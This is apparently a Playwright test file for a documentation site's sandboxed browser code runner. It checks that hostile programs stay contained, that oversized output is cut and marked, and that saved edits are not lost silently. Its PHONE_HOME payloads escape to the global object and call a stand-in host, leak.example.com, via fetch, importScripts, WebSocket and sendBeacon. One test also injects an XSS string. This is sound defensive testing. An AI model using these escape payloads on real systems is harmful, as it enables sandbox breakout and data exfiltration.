/**
 * Issue 16: hostile programs against the site's sealed worker, in Chromium, on the built site. For each attack:
 * the program gets nowhere (no ESCAPED line, nothing requested outside 127.0.0.1), the page stays usable, and a
 * correct program run next in another block prints what it should. Plus what only the page can show: oversized
 * output arrives cut and marked, a forged result is a runner fault, storage full and corrupted records are said.
 * The same attack list runs in Node against a sealed realm: test/runner/seal.test.ts.
 */
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import type {Locator, Page} from 'playwright-core';
import {baseUrl, openBrowser, wakeBlock, watchedPage, type Session, type WatchedPage} from './browser';
import {CORRECT_OUTPUT, CORRECT_PROGRAM, GLOBAL_ROUTES, HOSTILE_THROWS, OVERSIZED, POLLUTION} from '../test/runner/sealed/attacks';

const EN = {editor: 'Code editor', run: 'Run', output: 'Output'};

let session: Session;
/** every request of the browser (page and workers) that left 127.0.0.1 */
const leaks: string[] = [];
beforeAll(async () => {
  session = await openBrowser();
  session.context.on('request', (req) => {
    const url = req.url();
    if (url.startsWith('data:') || url.startsWith('blob:')) return;
    if (new URL(url).hostname !== '127.0.0.1') leaks.push(url);
  });
});
afterAll(async () => {
  await session?.close();
});

/** Fills the block's editor, presses Run and waits for the outcome; returns the status line and the output. */
async function runCode(block: Locator, code: string): Promise<{status: string; output: string}> {
  await block.getByRole('textbox', {name: EN.editor}).fill(code);
  const status = block.locator('[aria-live="polite"]').first();
  const runs = await status.getAttribute('data-status');
  await block.getByRole('button', {name: EN.run, exact: true}).click();
  await block.page().waitForFunction(
    ([el, before]) => {
      const s = el?.getAttribute('data-status');
      return !!s && s !== 'running' && s !== 'idle' && (el!.textContent ?? '').trim() !== '' && s !== before + '-never';
    },
    [await status.elementHandle(), runs] as const,
    {timeout: 20_000},
  );
  const output = block.getByRole('region', {name: EN.output});
  return {status: (await status.textContent()) ?? '', output: (await output.count()) ? ((await output.textContent()) ?? '') : ''};
}

/** Two runnable blocks of one page: one for the attack, another for the correct program after it. */
async function twoBlocks(page: Page): Promise<[Locator, Locator]> {
  await page.goto(`${baseUrl()}/en/docs/connect`, {waitUntil: 'networkidle'});
  const a = await wakeBlock(page.locator('[data-live-code]').nth(0), EN.editor);
  const b = await wakeBlock(page.locator('[data-live-code]').nth(1), EN.editor);
  return [a, b];
}

async function expectCorrectNext(block: Locator) {
  const {status, output} = await runCode(block, CORRECT_PROGRAM);
  expect(output).toContain(CORRECT_OUTPUT);
  expect(status).toContain('Finished without error');
}

describe('hostile programs in the site’s sealed worker', () => {
  let watched: WatchedPage;
  let blocks: [Locator, Locator];
  beforeAll(async () => {
    watched = await watchedPage(session);
    blocks = await twoBlocks(watched.page);
  }, 60_000);
  afterAll(async () => {
    await watched.page.close();
  });

  // late-callback attacks that would phone home if they escaped
  const PHONE_HOME: Record<string, string> = {
    'fetch from a callback after the run':
      "Promise.resolve().then(() => { const g = (function () {}).constructor('return this')(); g.fetch('http://leak.example.com/a'); });",
    'importScripts from an async function': "(async () => { await 0; const g = Object.getPrototypeOf(async () => {}).constructor('return self')(); g.importScripts('http://leak.example.com/b.js'); })();",
    'message handler replaced from a callback':
      "Promise.resolve().then(() => { const g = (function () {}).constructor('return this')(); g.onmessage = () => g.postMessage({type: 'result', id: 2, result: {status: 'ok', console: [{level: 'log', text: 'FAKE'}], truncated: false, trace: [], calls: [], endTime: 0}}); });",
    'WebSocket and sendBeacon through a Symbol-keyed getter':
      "Object.defineProperty(Object.prototype, Symbol.toPrimitive, {get() { const g = (function () {}).constructor('return this')(); new g.WebSocket('ws://leak.example.com'); g.navigator.sendBeacon('http://leak.example.com/c'); return undefined; }});",
  };

  const attacks = {...GLOBAL_ROUTES, ...POLLUTION, ...HOSTILE_THROWS, ...PHONE_HOME};
  it.each(Object.keys(attacks))('%s: contained; the next correct program in another block is correct', async (name) => {
    const [a, b] = blocks;
    const {output} = await runCode(a, attacks[name]);
    expect(output).not.toContain('ESCAPED');
    await expectCorrectNext(b);
    expect(await b.getByRole('region', {name: EN.output}).textContent()).not.toContain('FAKE');
    expect(leaks).toEqual([]);
  }, 60_000);

  it('the 2 s stop still ends an endless loop, and Run works after it', async () => {
    const [a, b] = blocks;
    const {status} = await runCode(a, 'for (;;) {}');
    expect(status).toContain('2 s');
    await expectCorrectNext(b);
  }, 60_000);

  it('an API error class the program made with odd arguments is the program\'s error on the page, not a runner fault', async () => {
    const [a, b] = blocks;
    for (const name of ['a SocketError whose errno is a function', 'a WouldBlockForever whose call is an object']) {
      const {status} = await runCode(a, HOSTILE_THROWS[name]);
      expect(status).toMatch(/^Error: /);
      expect(status).not.toContain('Runner fault');
    }
    await expectCorrectNext(b);
  }, 60_000);

  it('no page errors were logged by any of it', () => {
    expect(watched.errors).toEqual([]);
  });
});

describe('oversized output is cut in the worker and marked on the page', () => {
  let watched: WatchedPage;
  let blocks: [Locator, Locator];
  beforeAll(async () => {
    watched = await watchedPage(session);
    blocks = await twoBlocks(watched.page);
  }, 60_000);
  afterAll(async () => {
    await watched.page.close();
  });

  it('a 100 MB console string: one cut line, marked', async () => {
    const {output} = await runCode(blocks[0], OVERSIZED['a 100 MB console string']);
    expect(output).toMatch(/\(104,847,600 characters cut\)/);
    await expectCorrectNext(blocks[1]);
  }, 60_000);

  it('a 50 MB error message: cut, marked', async () => {
    const {status} = await runCode(blocks[0], OVERSIZED['a 50 MB error message']);
    expect(status).toMatch(/its last 52,426,800 characters were cut/);
    expect(status.length).toBeLessThan(3000);
    await expectCorrectNext(blocks[1]);
  }, 60_000);

  it('1,000 lines of 100k characters: cut to the output limit, marked', async () => {
    const {output} = await runCode(blocks[0], OVERSIZED['1,000 lines of 100k characters']);
    expect(output).toContain('characters cut');
    expect(output).toContain('The output was too long');
    expect(output.length).toBeLessThan(250_000);
    await expectCorrectNext(blocks[1]);
  }, 60_000);

  it('many trace events: a prefix is kept and the page says so', async () => {
    const {output} = await runCode(blocks[0], OVERSIZED['many trace events']);
    expect(output).toMatch(/only its first 20,000 events were kept/);
    await expectCorrectNext(blocks[1]);
  }, 60_000);

  it('nothing left 127.0.0.1 and the page logged no error', () => {
    expect(leaks).toEqual([]);
    expect(watched.errors).toEqual([]);
  });
});

describe('results the page must not render', () => {
  it('a forged result from the worker is a runner fault in the reader’s language; Run works after it', async () => {
    const {page} = await watchedPage(session);
    // Stand in for the worker's script: a worker that answers with a result outside the RunResult contract.
    await page.route(/\/assets\/js\/[^/]*\.js$/, async (route) => {
      const res = await route.fetch();
      const body = await res.text();
      if (!body.includes('socket-lab-program.js') || !body.includes('"ready"') || body.includes('createRunner')) {
        return route.fulfill({response: res});
      }
      return route.fulfill({
        response: res,
        body: "self.onmessage = (e) => self.postMessage({type: 'result', id: e.data.id, result: {status: 'ok', console: [{level: 'log', text: {html: '<img src=x onerror=alert(1)>'}}], truncated: false, trace: [], calls: [], endTime: 0}});\nself.postMessage({type: 'ready'});",
      });
    });
    const [a, b] = await twoBlocks(page);
    const {status} = await runCode(a, CORRECT_PROGRAM);
    expect(status).toContain('Runner fault');
    expect(status).not.toMatch(/network/i);
    await page.unroute(/\/assets\/js\/[^/]*\.js$/);
    // the running state was reset: Run is there and works (a fresh worker for each run)
    await page.reload({waitUntil: 'networkidle'});
    const [, b2] = await twoBlocks(page);
    await expectCorrectNext(b2);
    void b;
    await page.close();
  }, 90_000);
});

describe('saved edits: never lost silently', () => {
  it('storage full: a save that fails says so and the edit stays in the editor', async () => {
    const {page, errors} = await watchedPage(session);
    const [a] = await twoBlocks(page);
    await page.evaluate(() => {
      // fill localStorage up to its quota (after clearing: a smaller edit could replace a saved longer one)
      localStorage.clear();
      const chunk = 'x'.repeat(256 * 1024);
      for (let i = 0; i < 1000; i++) {
        try {
          localStorage.setItem(`filler-${i}`, chunk);
        } catch {
          let small = chunk;
          while (small.length > 1) {
            small = small.slice(0, small.length >> 1);
            try {
              localStorage.setItem(`filler-${i}-${small.length}`, small);
            } catch {
              /* smaller */
            }
          }
          break;
        }
      }
    });
    const edit = 'const fd = socket();\nconsole.log("kept in the editor", fd);';
    await a.getByRole('textbox', {name: EN.editor}).fill(edit);
    await expect.poll(async () => (await a.locator('[role="status"]').allTextContents()).join(' ')).toContain('could not be saved');
    expect(await a.getByRole('textbox', {name: EN.editor}).inputValue()).toBe(edit);
    await page.evaluate(() => localStorage.clear());
    expect(errors).toEqual([]);
    await page.close();
  }, 60_000);

  it('a corrupted record and a 2 MB record are set aside with a notice; the block works', async () => {
    const {page, errors} = await watchedPage(session);
    await page.goto(`${baseUrl()}/en/docs/connect`, {waitUntil: 'networkidle'});
    const first = await wakeBlock(page.locator('[data-live-code]').nth(0), EN.editor);
    // learn the blocks' keys by editing them once
    await first.getByRole('textbox', {name: EN.editor}).fill('const a = 1;');
    const second = await wakeBlock(page.locator('[data-live-code]').nth(1), EN.editor);
    await second.getByRole('textbox', {name: EN.editor}).fill('const b = 2;');
    const keys = await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('socketlab:v1:code:')).sort());
    expect(keys).toHaveLength(2);
    await page.evaluate(([k1, k2]) => {
      localStorage.setItem(k1, '{"code": 42, "edited": 1}');
      localStorage.setItem(k2, JSON.stringify({code: 'x'.repeat(2 * 1024 * 1024)}));
    }, keys);
    await page.reload({waitUntil: 'networkidle'});
    const blocks = [page.locator('[data-live-code]').nth(0), page.locator('[data-live-code]').nth(1)];
    const notices: string[] = [];
    for (const block of blocks) {
      await wakeBlock(block, EN.editor);
      notices.push((await block.locator('[role="status"]').allTextContents()).join(' '));
    }
    expect(notices.join(' ')).toContain('could not be read');
    expect(notices.join(' ')).toContain('longer than 100,000 characters');
    const aside = await page.evaluate(() => Object.keys(localStorage).filter((k) => k.endsWith(':set-aside')).length);
    expect(aside).toBe(2);
    // the blocks show the author's code and run it
    const {status} = await runCode(blocks[0], CORRECT_PROGRAM);
    expect(status).toContain('Finished without error');
    expect(errors).toEqual([]);
    await page.evaluate(() => localStorage.clear());
    await page.close();
  }, 90_000);
});
